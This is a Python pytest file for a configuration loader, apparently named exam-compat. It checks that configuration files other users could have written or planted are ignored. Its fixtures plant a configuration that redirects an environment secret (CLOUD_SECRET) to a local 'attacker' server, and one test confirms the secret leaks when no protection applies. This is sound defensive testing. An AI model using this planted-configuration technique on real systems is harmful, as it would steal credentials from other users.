"""A configuration that somebody else could have put there gets no secret, and answers no script."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from support import signed_url

from compat.entrances.run import judge_file, read_trusted
from compat.errors import ConfigurationError
from compat.testing.sandbox import Sandbox

pytestmark = pytest.mark.skipif(os.name == "nt", reason="owners and modes are those of POSIX")

ROOT_ONLY = pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0, reason="only root gives files away")
NOBODY = 65534
NEWS = "exam-compat: "
SECRET = "what-the-attacker-is-after"


@dataclass
class Attacker:
    """A server that notes what it is sent."""

    seen: list[str] = field(default_factory=list)
    url: str = ""

    def toml(self, legacy: str) -> str:
        """A configuration that sends a variable of the environment there."""
        return (
            f"[upstream]\nkind = 'student_sessions'\nbase_url = '{self.url}'\napi_token = 'env:CLOUD_SECRET'\n"
            f"secret_key = 'b'\n[legacy]\nbase_url = '{legacy}'\n"
        )


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    found = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.seen.append(f"{self.path} {self.headers}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *arguments: object) -> None:
            """Nothing is printed."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        found.url = f"http://127.0.0.1:{server.server_address[1]}"
        yield found
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(students=20) as running:
        yield running


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder of this user's, in another one."""
    made = tmp_path / "outer" / "inner"
    made.mkdir(parents=True)
    for each in (made, made.parent):
        each.chmod(0o755)
    return made


def script(sandbox: Sandbox) -> str:
    url = signed_url(sandbox, sandbox.base_url, "index_students", limit="3")
    return (
        f"import requests\nanswer = requests.get({url!r}, headers={dict(sandbox.headers)!r}, timeout=30)\n"
        "print(answer.status_code, answer.headers.get('X-Compat-Answered-By'))\n"
    )


def started(folder: Path, code: str, *options: str, **variables: str) -> subprocess.CompletedProcess[str]:
    kept = {name: text for name, text in os.environ.items() if not name.startswith(("EXAM_COMPAT", "PYTHON"))}
    return subprocess.run(
        [sys.executable, *options, "-c", code],
        cwd=folder,
        env={**kept, "EXAM_COMPAT": "1", "CLOUD_SECRET": SECRET, **variables},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def news(done: subprocess.CompletedProcess[str]) -> str:
    """The one line that we said on standard error."""
    (line,) = [line for line in done.stderr.splitlines() if line.startswith(NEWS)]
    return line.removeprefix(NEWS)


def of_another(path: Path) -> None:
    os.chown(path, NOBODY, NOBODY, follow_symlinks=False)


def link_to(target: Path, path: Path) -> None:
    target.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(target)


def link_of_another(path: Path) -> None:
    link_to(path.parent.parent / "other.toml", path)
    of_another(path)


def link_into_an_open_folder(path: Path) -> None:
    opened = path.parent.parent / "open"
    opened.mkdir()
    link_to(opened / "exam-compat.toml", path)
    opened.chmod(0o777)


# What is done to the file, and the part of the path that the line names.
PLANTED: dict[str, tuple[Callable[[Path], None], str]] = {
    "the group writes the file": (lambda path: path.chmod(0o664), "inner/exam-compat.toml"),
    "everybody writes the file": (lambda path: path.chmod(0o646), "inner/exam-compat.toml"),
    "the group writes the folder": (lambda path: path.parent.chmod(0o775), "inner"),
    "everybody adds to the folder": (lambda path: path.parent.chmod(0o1777), "inner"),
    "everybody writes the folder above": (lambda path: path.parent.parent.chmod(0o757), "outer"),
    "a link into an open folder": (link_into_an_open_folder, "open"),
}
GIVEN_AWAY: dict[str, tuple[Callable[[Path], None], str]] = {
    "the file of another": (of_another, "inner/exam-compat.toml"),
    "the folder of another": (lambda path: of_another(path.parent), "inner"),
    "the folder above of another": (lambda path: of_another(path.parent.parent), "outer"),
    "a link of another": (link_of_another, "inner/exam-compat.toml"),
}


@pytest.mark.parametrize("named", [False, True], ids=["found", "named"])
@pytest.mark.parametrize(
    ("plant", "part"),
    [
        *(pytest.param(*each, id=name) for name, each in PLANTED.items()),
        *(pytest.param(*each, id=name, marks=ROOT_ONLY) for name, each in GIVEN_AWAY.items()),
    ],
)
def test_what_others_could_have_written_is_left_alone(
    sandbox: Sandbox, attacker: Attacker, folder: Path, plant: Callable[[Path], None], part: str, named: bool
) -> None:
    path = folder / "exam-compat.toml"
    path.write_text(attacker.toml(sandbox.base_url))
    path.chmod(0o644)
    plant(path)
    done = started(folder, script(sandbox), **({"EXAM_COMPAT_CONFIG": str(path)} if named else {}))
    assert done.stdout == "200 None\n", done.stderr
    line = news(done)
    assert line.startswith(f"{path} was left alone: ")
    assert f"/{part}" in line.partition(" was left alone: ")[2]
    assert line.endswith("; calls go out as they were")
    assert attacker.seen == []


def test_the_attack_works_where_nothing_is_left_alone(sandbox: Sandbox, attacker: Attacker, folder: Path) -> None:
    """Else the tests beside it could not fail."""
    (folder / "exam-compat.toml").write_text(attacker.toml(sandbox.base_url))
    started(folder, script(sandbox))
    assert SECRET in "".join(attacker.seen)
    attacker.seen.clear()


def within_an_open_sticky_folder(path: Path) -> None:
    path.parent.parent.chmod(0o1777)


def linked(path: Path) -> None:
    link_to(path.parent.parent / "other.toml", path)


@pytest.mark.parametrize(
    "placed", [lambda path: path.chmod(0o600), within_an_open_sticky_folder, linked], ids=["own", "sticky", "linked"]
)
def test_what_only_this_user_could_have_written_answers(
    sandbox: Sandbox, folder: Path, placed: Callable[[Path], None]
) -> None:
    (folder / "exam-compat.toml").write_text(sandbox.toml("student_sessions"))
    placed(folder / "exam-compat.toml")
    done = started(folder, script(sandbox))
    assert (done.stdout, NEWS in done.stderr) == ("200 new\n", False)


@pytest.mark.parametrize(
    ("option", "named", "answered"),
    [
        ("-I", False, "None"),
        ("-I", True, "None"),
        ("-E", False, "None"),
        ("-E", True, "None"),
        pytest.param("-P", False, "None", marks=pytest.mark.skipif(sys.version_info < (3, 11), reason="no -P yet")),
        pytest.param("-P", True, "new", marks=pytest.mark.skipif(sys.version_info < (3, 11), reason="no -P yet")),
    ],
)
def test_options_that_leave_environment_or_folder_alone(
    sandbox: Sandbox, folder: Path, option: str, named: bool, answered: str
) -> None:
    path = folder / "exam-compat.toml"
    path.write_text(sandbox.toml("student_sessions"))
    done = started(folder, script(sandbox), option, **({"EXAM_COMPAT_CONFIG": str(path)} if named else {}))
    assert done.stdout == f"200 {answered}\n"
    if answered == "None":
        assert option in news(done)


def test_pythons_that_a_script_starts_take_the_first_ones_folder(
    sandbox: Sandbox, attacker: Attacker, folder: Path, tmp_path: Path
) -> None:
    (folder / "exam-compat.toml").write_text(sandbox.toml("student_sessions"))
    (tmp_path / "exam-compat.toml").write_text(attacker.toml(sandbox.base_url))
    code = (
        f"import os, subprocess, sys; os.chdir({str(tmp_path)!r}); subprocess.run([sys.executable, '-c', sys.argv[1]])"
    )
    done = started(folder, f"import sys; sys.argv[1:] = [{script(sandbox)!r}]; {code}")
    assert done.stdout == "200 new\n"
    assert attacker.seen == []


def test_a_folder_without_a_configuration_is_named(sandbox: Sandbox, folder: Path) -> None:
    line = news(started(folder, script(sandbox)))
    assert line.startswith(f"no configuration: no exam-compat.toml in {folder}; go to its folder, or name one by ")
    missing = news(started(folder, script(sandbox), EXAM_COMPAT_CONFIG="other.toml"))
    assert missing.startswith(f"no configuration: EXAM_COMPAT_CONFIG names {folder / 'other.toml'}, which is no file;")


@pytest.mark.parametrize("name", ["roster", "known"])
def test_files_that_it_names_are_judged_too(sandbox: Sandbox, folder: Path, tmp_path: Path, name: str) -> None:
    kind = "paginated_sessions" if name == "roster" else "student_sessions"
    text = sandbox.toml(kind)
    planted = tmp_path / f"{name}.csv"
    if name == "roster":
        planted.write_text("user_id,email,name,student_id,external_id\nu1,a@example.org,Forged,1,\n")
        text = text.replace("[upstream]", f"[upstream]\nroster = '{planted}'", 1)
        text = text.replace("path = '/sessions'", "path = '/users/{user_id}/sessions'")
    else:
        planted.write_text("")
        text += f"\n[regression]\nknown = '{planted}'\n"
    planted.chmod(0o666)
    (folder / "exam-compat.toml").write_text(text)
    done = started(folder, script(sandbox))
    assert done.stdout == "200 None\n"
    assert f"{planted} was left alone: others can write to {planted}" in news(done)


@ROOT_ONLY
def test_another_user_takes_roots_files_and_its_own() -> None:
    """In a process of that user's; how a folder and a file are judged depends on who asks.

    Not below pytest's own folders: root alone may enter those, and how many there are depends on how pytest runs.
    """
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        root, own, third = _read_by_nobody(Path(folder))
    assert (root, own) == ("root text", "own text")
    assert third.startswith("third ConfigurationError ")
    assert third.endswith("/third belongs to user 1; it must be this user's or root's")


def _read_by_nobody(folder: Path) -> list[str]:
    for name, owner in (("root", 0), ("own", NOBODY), ("third", 1)):
        (folder / name).write_text("text")
        os.chown(folder / name, owner, owner)
    code = (
        "import os, sys\n"
        "from compat.entrances.run import read_trusted\n"
        f"os.setgroups([]); os.setgid({NOBODY}); os.setuid({NOBODY})\n"
        "for name in ('root', 'own', 'third'):\n"
        "    try: print(name, read_trusted(name))\n"
        "    except Exception as error: print(name, type(error).__name__, error)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=folder, capture_output=True, text=True, check=True)
    return done.stdout.splitlines()


def test_paths_that_lead_to_no_file(tmp_path: Path) -> None:
    (tmp_path / "circle").symlink_to("circle")
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "file").write_text("text")
    (tmp_path / "folder").mkdir()
    for name in ("circle", "pipe", "folder", "."):
        with pytest.raises((ConfigurationError, NotADirectoryError)):
            read_trusted(tmp_path / name)
    with pytest.raises(NotADirectoryError):
        read_trusted(tmp_path / "file" / "inner")
    assert read_trusted(tmp_path / "folder" / ".." / "file") == "text"
    judge_file(tmp_path / "missing")
